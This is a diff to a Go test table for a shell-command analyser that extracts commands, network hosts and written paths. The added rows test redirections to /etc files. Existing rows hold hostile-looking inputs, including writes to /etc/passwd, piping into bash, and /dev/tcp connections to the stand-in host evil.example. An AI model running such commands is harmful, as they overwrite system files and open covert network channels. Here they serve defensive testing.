@@ -60,6 +60,8 @@ func TestShellFacts(t *testing.T) {
 		{"sh x.sh", []string{"sh"}, nil, nil, true},
 		{"echo x | bash", []string{"bash", "echo"}, nil, nil, true},
 		{"[ -f x ] && echo y > out/z 2>> /etc/passwd", []string{"[", "echo"}, nil, []string{"/etc/passwd", "/testbed/out/z"}, false},
+		{"echo x >& /etc/a &> /etc/b &>> /etc/c >| /etc/d <> /etc/e 2>&1 3>&-", []string{"echo"}, nil, []string{"/etc/a", "/etc/b", "/etc/c", "/etc/d", "/etc/e"}, false},
+		{"echo x > /etc/pass*", []string{"echo"}, nil, nil, true},
 		{"echo x > $y", []string{"echo"}, nil, nil, true},
 		{"cat < /dev/tcp/evil.example/80", []string{"cat"}, []string{"evil.example"}, nil, false},
 		{"exec 3<>/dev/tcp/evil.example/80", []string{"exec"}, []string{"evil.example"}, []string{"/dev/tcp/evil.example/80"}, false},
